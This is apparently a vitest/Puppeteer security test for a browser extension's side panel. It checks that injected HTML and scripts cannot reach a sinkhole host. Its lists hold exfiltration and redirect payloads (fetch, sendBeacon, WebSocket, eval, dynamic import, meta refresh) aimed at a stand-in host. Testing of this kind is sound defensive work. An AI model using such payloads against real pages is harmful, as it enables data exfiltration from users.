import type { CDPSession, Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readSharedJson } from '../shared-fixtures.ts';
import { launchGloss, type GlossBrowser } from './helpers/chromium.ts';
import { createSinkhole, type Sinkhole } from './helpers/sinkhole.ts';
import { waitFor } from './helpers/wait.ts';
import { ACTIVE_HTML } from './rendering/payloads.ts';

interface Vector {
  kind: string;
  payload: string;
}

const SINK = 'http://a.sink.test';

/** What a script that had got into the panel would try. */
const ACTIVE_SCRIPT: readonly string[] = [
  `fetch('SINK/fetch')`,
  `navigator.sendBeacon('SINK/beacon', 'x')`,
  `new WebSocket('ws://a.sink.test/ws')`,
  `new EventSource('SINK/es')`,
  `new Image().src = 'SINK/image'`,
  `new Worker('SINK/w.js')`,
  `import('SINK/m.js')`,
  `new FontFace('q', 'url(SINK/face)').load()`,
  `document.body.style.background = 'url(SINK/back)'`,
  `document.body.innerHTML = '<img src=SINK/inner>'`,
  `eval("fetch('SINK/eval')")`,
  `new Function("fetch('SINK/function')")()`,
  `setTimeout("fetch('SINK/timer')")`,
].map((script) => script.replaceAll('SINK', SINK));

const toVectors = (kind: string, payloads: readonly string[]): Vector[] =>
  payloads.map((payload) => ({ kind, payload: payload.replaceAll(/SINK|:PORT/g, replaceSink) }));
const replaceSink = (name: string) => (name === 'SINK' ? SINK : '');

const SHARED = readSharedJson<Vector[]>('exfil-vectors.json') ?? [];
const VECTORS: readonly Vector[] = [
  ...SHARED.flatMap(({ kind, payload }) => toVectors(kind, [payload])),
  ...toVectors('html', ACTIVE_HTML),
  ...toVectors('script', ACTIVE_SCRIPT),
];

/**
 * What no policy holds back: to be led away, and WebRTC. It takes elements that Gloss never makes,
 * or a script.
 */
const NOT_HELD = /http-equiv="?refresh|window\.open|^<a [^>]*href="http|RTCPeerConnection/;

/** The ways away there are, each with where it leads. */
const WAYS_AWAY: readonly Vector[] = [
  ...toVectors('html', [
    '<meta http-equiv="refresh" content="0;url=SINK/away">',
    '<a href="SINK/away">x</a>',
    '<a href="SINK/away" target="_top">x</a>',
  ]),
  ...toVectors('script', ["location.href = 'SINK/away'", "window.open('SINK/away', '_self')"]),
];

let sinkhole: Sinkhole;
let gloss: GlossBrowser;
let panel: Page;
let session: CDPSession;

beforeAll(async () => {
  sinkhole = await createSinkhole([]);
  gloss = await launchGloss({ proxy: sinkhole.address });
  panel = await gloss.openPanel();
  await panel.waitForSelector('textarea');
  session = await panel.createCDPSession();
  await session.send('DOM.enable');
});
afterAll(async () => {
  await gloss.close();
  await sinkhole.close();
});

/** Puts HTML into the panel past its policy for HTML, as only a debugger can, and clicks on it. */
async function inject(html: string): Promise<void> {
  await panel.evaluate(() => {
    document.querySelector('#injected')?.remove();
    const place = document.createElement('div');
    place.id = 'injected';
    document.body.append(place);
  });
  const { root } = await session.send('DOM.getDocument');
  const { nodeId } = await session.send('DOM.querySelector', {
    nodeId: root.nodeId,
    selector: '#injected',
  });
  await session.send('DOM.setOuterHTML', {
    nodeId,
    outerHTML: `<div id="injected">${html}</div>`,
  });
  await panel.evaluate(() => {
    const nodes = document.querySelectorAll<HTMLElement>('#injected :is(a, button)');
    for (const node of nodes) node.click();
  });
}

const run = (script: string) =>
  session.send('Runtime.evaluate', { expression: `try { ${script} } catch {}` });

const attack = ({ kind, payload }: Vector) => (kind === 'html' ? inject(payload) : run(payload));

const listUrls = () => sinkhole.requests.map(({ url }) => url);

it('row 72: a link that is dropped on the panel leads nowhere', async () => {
  const data = {
    items: [{ mimeType: 'text/uri-list', data: `${SINK}/dropped` }],
    dragOperationsMask: 1 + 2 + 16,
  };
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
    await session.send('Input.dispatchDragEvent', { type, x: 150, y: 200, data });
  }
  await run(`window.open('${SINK}/behind')`);
  await waitFor(() => sinkhole.requests.length > 0, { what: 'what comes behind it' });
  expect(listUrls()).toEqual([`${SINK}/behind`]);
  expect(panel.url()).toContain('/sidepanel.html');
});

describe('something that has got into the panel', () => {
  it('row 83: reaches nobody, unless it leads away', async () => {
    const before = sinkhole.requests.length;
    for (const vector of VECTORS.filter(({ payload }) => !NOT_HELD.test(payload))) {
      await attack(vector);
    }
    // Requests come in their order: behind this one, no other is on its way.
    await run(`location.href = '${SINK}/last'`);
    await waitFor(() => listUrls().includes(`${SINK}/last`), { what: 'what cannot be held back' });
    expect(listUrls().slice(before)).toEqual([`${SINK}/last`]);
  });

  it.each(WAYS_AWAY)(
    'row 73: leads away in a tab, and the panel stays: $payload',
    async (vector) => {
      const before = sinkhole.requests.length;
      await attack(vector);
      await waitFor(() => sinkhole.requests.length > before, { what: 'a request' });
      expect(panel.url().split('#')[0]).toBe(
        `chrome-extension://${gloss.extensionId}/sidepanel.html`,
      );
      expect(await panel.$('textarea')).not.toBeNull();
    },
  );
});
